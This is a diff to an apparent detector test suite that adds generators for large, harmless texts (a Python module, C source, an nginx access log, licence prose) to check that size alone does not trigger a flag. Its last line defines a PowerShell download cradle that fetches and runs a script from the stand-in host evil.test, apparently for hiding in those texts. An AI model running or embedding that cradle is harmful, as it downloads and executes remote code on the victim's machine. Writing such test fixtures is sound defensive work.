@@ -816,6 +816,138 @@ HARMLESS: dict[str, Maker] = {
 }
 
 
+# -- ordinary texts of a few hundred KiB: code, logs, licences ---------------------------------
+# (issue 9, "size is not evidence": what a developer or an admin copies whole from an editor)
+
+
+def python_module(size: int = 300 * KiB) -> str:
+    """A large Python module with its tests: classes, docstrings, subprocess and os calls,
+    aligned comments, URLs in docstrings, regexes, and the escapes encoder tests write (lone
+    surrogates among them)."""
+
+    def row(i: int) -> str:
+        return (
+            f"class Handler{i}(BaseHandler):\n"
+            f'    """Serve /api/v{i % 3 + 1}/items/{{id}}; see https://docs.example.org/handlers#{i}."""\n\n'
+            f"    retries = {i % 5}            # how often a failed call is tried again\n"
+            f"    pattern = re.compile(r'^(?P<name>[a-z_]+)-(?P<n>\\d+)$')\n\n"
+            f"    def run(self, path: str) -> int:\n"
+            f"        out = subprocess.run(['git', 'log', '-n', '{i % 9 + 1}', '--', path],\n"
+            f"                             capture_output=True, text=True, check=False)\n"
+            f"        if out.returncode:\n"
+            f"            log.warning('git failed on %s: %s', path, out.stderr.strip())\n"
+            f"        with open(os.path.join(self.root, 'cache-{i}.json'), 'w') as f:\n"
+            f"            json.dump({{'n': {i}, 'lines': out.stdout.splitlines()}}, f)\n"
+            f"        return len(out.stdout)\n\n"
+            f"    def test_roundtrip_{i}(self) -> None:\n"
+            f"        s = '\\udc{i % 256:02x}\\ud83d\\ude00 caf\\u00e9 {i}'\n"
+            f"        self.assertEqual(s.encode('utf-8', 'surrogateescape').decode("
+            f"'utf-8', 'surrogateescape'), s)\n\n\n"
+        )
+
+    head = (
+        '"""Request handlers and their tests."""\n\nimport json\nimport logging\nimport os\n'
+        "import re\nimport subprocess\n\nlog = logging.getLogger(__name__)\n\n\n"
+    )
+    return head + fill(row, size - len(head))
+
+
+def c_source(size: int = 300 * KiB) -> str:
+    """A C file of a network daemon: includes, macros, structs, buffers, hex constants."""
+
+    def row(i: int) -> str:
+        return (
+            f"/* Parse one frame of type 0x{i % 256:02x} from the socket buffer. */\n"
+            f"static int parse_frame_{i}(struct conn *c, const uint8_t *buf, size_t len)\n{{\n"
+            f"    if (len < HDR_LEN + {i % 16})\n        return -EAGAIN;\n"
+            f"    uint32_t magic = be32toh(*(const uint32_t *)buf);\n"
+            f"    if (magic != 0x{(i * 2654435761) % (1 << 32):08x}u) {{\n"
+            f'        syslog(LOG_WARNING, "conn %d: bad magic %08x", c->fd, magic);\n'
+            f"        return -EPROTO;\n    }}\n"
+            f"    memcpy(c->scratch, buf + HDR_LEN, MIN(len - HDR_LEN, sizeof c->scratch));\n"
+            f'    snprintf(c->path, sizeof c->path, "/var/lib/netd/%s-{i}.state", c->name);\n'
+            f"    return handle_{i % 40}(c);\n}}\n\n"
+        )
+
+    head = (
+        "#include <errno.h>\n#include <stdint.h>\n#include <string.h>\n#include <syslog.h>\n"
+        '#include "netd.h"\n\n#define HDR_LEN 12\n#define MIN(a, b) ((a) < (b) ? (a) : (b))\n\n'
+    )
+    return head + fill(row, size - len(head))
+
+
+def web_server_log(size: int = 300 * KiB) -> str:
+    """An nginx access log in the combined format: addresses, paths with query strings,
+    referrers and user agents."""
+    rng = _rng("nginx")
+    agents = (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/131.0.0.0 Safari/537.36",
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+        "Version/18.1 Safari/605.1.15",
+        "curl/8.5.0",
+        "python-requests/2.32.3",
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    )
+    paths = ("/", "/login", "/api/v2/items", "/static/app.3f9a1c.js", "/search", "/cart/add")
+
+    def row(i: int) -> str:
+        path = paths[i % len(paths)]
+        query = f"?q=blue%20shoes&page={i % 7}&sid={rng.getrandbits(64):016x}" if i % 3 else ""
+        return (
+            f"203.0.113.{i % 250} - - [05/Dec/2026:1{i % 10}:{i % 60:02d}:{i * 7 % 60:02d} +0000] "
+            f'"{"POST" if i % 11 == 0 else "GET"} {path}{query} HTTP/1.1" '
+            f"{(200, 200, 304, 404, 302)[i % 5]} {rng.randrange(200, 90000)} "
+            f'"https://shop.example.org{paths[(i + 1) % len(paths)]}" "{agents[i % len(agents)]}"\n'
+        )
+
+    return fill(row, size)
+
+
+def licence_text(size: int = 300 * KiB) -> str:
+    """Licence and terms prose of the length of the GPL and longer: numbered sections,
+    definitions, conditions, disclaimers (our own wording)."""
+    rng = _rng("licence")
+    subjects = ("the Program", "a covered work", "the Licensee", "each contributor", "you")
+    verbs = ("may convey", "must not restrict", "shall provide", "may charge a fee for",
+             "must retain")  # fmt: skip
+    objects = (
+        "verbatim copies of the source code",
+        "the notices that refer to this License",
+        "the Corresponding Source of the object code",
+        "warranty protection in exchange for a fee",
+        "the terms and conditions stated below",
+    )
+
+    def row(i: int) -> str:
+        sentences = " ".join(
+            f"{rng.choice(subjects).capitalize()} {rng.choice(verbs)} {rng.choice(objects)}"
+            f"{', provided that ' + rng.choice(objects) + ' are kept intact' if j % 2 else ''}."
+            for j in range(rng.randrange(3, 7))
+        )
+        head = f"  {i}. Section {i}.\n\n" if i % 5 == 0 else ""
+        return head + sentences + "\n\n"
+
+    tail = (
+        "THERE IS NO WARRANTY FOR THE PROGRAM, TO THE EXTENT PERMITTED BY APPLICABLE LAW. "
+        "See https://www.example.org/licenses/ for the full text.\n"
+    )
+    return fill(row, size - len(tail)) + tail
+
+
+# name -> (maker, size): the sizes the issue names, and a whole megabyte of a lockfile
+ORDINARY: dict[str, tuple[Maker, int]] = {
+    "Python module, 300 KiB": (python_module, 300 * KiB),
+    "C source file, 300 KiB": (c_source, 300 * KiB),
+    "web server log, 300 KiB": (web_server_log, 300 * KiB),
+    "package-lock.json, 300 KiB": (npm_lock, 300 * KiB),
+    "licence text, 300 KiB": (licence_text, 300 * KiB),
+    "minified JavaScript bundle, 200 KiB": (minified_js_one_line, 200 * KiB),
+    "package-lock.json, 400 KiB": (npm_lock, 400 * KiB),
+    "package-lock.json, 1 MiB": (npm_lock, MiB),
+}
+
+
 # -- the same with a payload hidden in them ---------------------------------------------------
 
 CRADLE = "iex (New-Object Net.WebClient).DownloadString('https://evil.test/stage.ps1')"
